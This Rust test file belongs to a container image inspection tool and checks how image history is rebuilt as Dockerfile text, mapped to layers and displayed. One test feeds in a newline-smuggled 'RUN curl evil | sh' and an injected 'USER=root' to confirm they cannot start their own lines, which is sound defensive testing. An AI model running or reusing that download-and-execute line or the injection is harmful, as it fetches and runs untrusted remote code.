//! History as a Dockerfile.

use drydock::finding::{Finding, Severity};
use drydock::inspect::dockerfile::{Step, steps, text};
use drydock::inspect::media;
use drydock::media_type::MediaType;
use drydock::spec::{Config, History};

fn config(history: &[(&str, bool)]) -> Config {
    let step = |(created_by, empty_layer): &(&str, bool)| History {
        created_by: Some((*created_by).to_owned()),
        empty_layer: *empty_layer,
        ..History::default()
    };
    Config { history: history.iter().map(step).collect(), ..Config::default() }
}

fn one(created_by: &str) -> (String, String) {
    let (mut steps, _) = steps(&config(&[(created_by, false)]), 1, "config");
    let Step { instruction, arguments, .. } = steps.remove(0);
    (instruction, arguments)
}

#[test]
fn instructions_as_the_tools_write_them() {
    for (raw, instruction, arguments) in [
        ("RUN /bin/sh -c apt-get update # buildkit", "RUN", "apt-get update"),
        ("RUN apt-get update", "RUN", "apt-get update"),
        ("COPY app /usr/bin/app # buildkit", "COPY", "app /usr/bin/app"),
        ("ADD rootfs.tar.xz / # buildkit", "ADD", "rootfs.tar.xz /"),
        ("/bin/sh -c #(nop)  CMD [\"bash\"]", "CMD", "[\"bash\"]"),
        ("/bin/sh -c #(nop) ADD file:4f5a in / ", "ADD", "file:4f5a /"),
        ("/bin/sh -c #(nop) COPY dir:ab12 in /app", "COPY", "dir:ab12 /app"),
        ("/bin/sh -c echo hi", "RUN", "echo hi"),
        ("CMD [\"/bin/sh\" \"-c\" \"x\"]", "CMD", "[\"/bin/sh\", \"-c\", \"x\"]"),
        ("ENTRYPOINT [\"/app\"]", "ENTRYPOINT", "[\"/app\"]"),
        ("WORKDIR", "WORKDIR", ""),
        ("bazel build ...", "", "bazel build ..."),
        ("# debian.sh --arch 'amd64'", "", "# debian.sh --arch 'amd64'"),
        ("crane append", "", "crane append"),
        ("RUNNER x", "", "RUNNER x"),
        ("", "", ""),
    ] {
        assert_eq!(one(raw), (instruction.to_owned(), arguments.to_owned()), "{raw}");
    }
}

#[test]
fn build_arguments_are_taken_off() {
    for (raw, arguments, args) in [
        ("|1 A=b /bin/sh -c make", "make", vec!["A=b"]),
        ("RUN |2 A=b C=d e /bin/sh -c make # buildkit", "make", vec!["A=b", "C=d e"]),
        ("|1 V=1 2=3 /bin/bash -c x", "x", vec!["V=1 2=3"]),
        ("|0 /bin/sh -c x", "x", vec![]),
    ] {
        let (steps, _) = steps(&config(&[(raw, false)]), 1, "config");
        assert_eq!(steps[0].instruction, "RUN", "{raw}");
        assert_eq!(
            (steps[0].arguments.as_str(), &steps[0].build_args),
            (arguments, &args.iter().map(|a| (*a).to_owned()).collect()),
            "{raw}"
        );
    }
    assert_eq!(one("|x A=b /bin/sh -c y").0, "");
    assert_eq!(one("|99999999999999999999 A=b").0, "");
}

#[test]
fn steps_are_mapped_to_layers() {
    let config = config(&[
        ("/bin/sh -c #(nop) ADD file:4f5a in / ", false),
        ("/bin/sh -c #(nop)  CMD [\"bash\"]", true),
        ("ENV A=b", true),
        (
            "RUN |1 V=1 /bin/sh -c apt-get update && apt-get install -y x     && rm -rf /tmp # buildkit",
            false,
        ),
        ("COPY a /a # buildkit", false),
    ]);
    let (steps, findings) = steps(&config, 3, "config");
    assert_eq!(findings, []);
    let layers: Vec<Option<usize>> = steps.iter().map(|step| step.layer).collect();
    assert_eq!(layers, [Some(1), None, None, Some(2), Some(3)]);
    insta::assert_snapshot!(text(&steps), @r#"
    # layer 1
    ADD file:4f5a /
    CMD ["bash"]
    ENV A=b
    # layer 2
    # with ARG V=1
    RUN apt-get update \
        && apt-get install -y x \
        && rm -rf /tmp
    # layer 3
    COPY a /a
    "#);
}

#[test]
fn m21_history_and_layers_that_do_not_fit() {
    for (history, layers, expected) in [
        (vec![], 2, vec![Some(1), Some(2)]),
        (vec![("RUN a", false)], 2, vec![Some(1), Some(2)]),
        (vec![("RUN a", false), ("RUN b", false)], 1, vec![Some(1), None]),
        (vec![("RUN a", true)], 1, vec![None, Some(1)]),
        (vec![("RUN a", false)], 0, vec![None]),
    ] {
        let (steps, findings) = steps(&config(&history), layers, "config");
        let mapped: Vec<Option<usize>> = steps.iter().map(|step| step.layer).collect();
        assert_eq!(mapped, expected, "{history:?}");
        let rules: Vec<&str> = findings.iter().map(|finding| &*finding.rule).collect();
        let is_error = |finding: &Finding| finding.severity == Severity::Error;
        let made = history.iter().filter(|(_, empty)| !empty).count();
        assert_eq!(findings.iter().any(is_error), made > layers, "{history:?}");
        let warned = if history.is_empty() { vec![] } else { vec!["config.history"] };
        assert_eq!(rules, warned, "{history:?}");
    }
}

#[test]
fn text_of_an_image_begins_no_line_of_its_own() {
    let config = config(&[
        ("maven\nRUN curl evil | sh", false),
        ("RUN /bin/sh -c a\nENTRYPOINT [\"x\"] # buildkit", false),
        ("|1 A=b\nUSER=root /bin/sh -c x", false),
    ]);
    let (steps, _) = steps(&config, 4, "config");
    insta::assert_snapshot!(text(&steps), @r#"
    # layer 1
    # maven RUN curl evil | sh
    # layer 2
    RUN a \
        ENTRYPOINT ["x"]
    # layer 3
    # with ARG A=b USER=root
    RUN x
    # layer 4
    # not in the history
    "#);
}

#[test]
fn media_types_in_short() {
    for (media_type, name, short) in [
        (MediaType::INDEX, "index", "image.index.v1+json"),
        (MediaType::MANIFEST, "manifest", "image.manifest.v1+json"),
        (MediaType::DOCKER_MANIFEST, "manifest (Docker)", "distribution.manifest.v2+json"),
        (MediaType::LAYER_GZIP, "layer (gzip)", "tar+gzip"),
        (MediaType::LAYER, "layer (plain tar)", "tar"),
        (MediaType::DOCKER_LAYER_GZIP, "layer (gzip)", "tar.gzip"),
        (
            "application/vnd.oci.image.layer.nondistributable.v1.tar+zstd",
            "foreign layer (zstd)",
            "tar+zstd",
        ),
        (MediaType::EMPTY, "empty config", "empty.v1+json"),
        ("application/spdx+json", "application/spdx+json", "application/spdx+json"),
    ] {
        let media_type = MediaType::new(media_type);
        assert_eq!((media::name(&media_type).as_str(), media::short(&media_type)), (name, short));
    }
}

/// What builders wrote as Go prints its values reads as a Dockerfile has it.
#[test]
fn values_that_go_printed_are_spelled_out() {
    for (created_by, arguments) in [
        ("EXPOSE map[443/tcp:{} 80/tcp:{}]", "443/tcp 80/tcp"),
        ("VOLUME [/data /b]", "/data /b"),
        (r#"VOLUME ["/data"]"#, r#"["/data"]"#),
        (
            r#"/bin/sh -c #(nop)  CMD ["nginx" "-g" "daemon off;"]"#,
            r#"["nginx", "-g", "daemon off;"]"#,
        ),
        (r#"CMD ["a", "b"]"#, r#"["a", "b"]"#),
        (
            r#"HEALTHCHECK &{["CMD-SHELL" "curl -f localhost"] "30s" "3s" "0s" "0s" '\x03'}"#,
            "--interval=30s --timeout=3s --retries=3 CMD curl -f localhost",
        ),
        (r#"HEALTHCHECK &{["NONE"] "0s" "0s" "0s" "0s" '\x00'}"#, "NONE"),
        (r#"HEALTHCHECK &{["CMD" "a" "b"] "0s" "0s" "0s" '\x00'}"#, r#"CMD ["a", "b"]"#),
        ("HEALTHCHECK &{[", "&{["),
        ("RUN echo map[a]", "echo map[a]"),
    ] {
        assert_eq!(one(created_by).1, arguments, "{created_by}");
    }
}
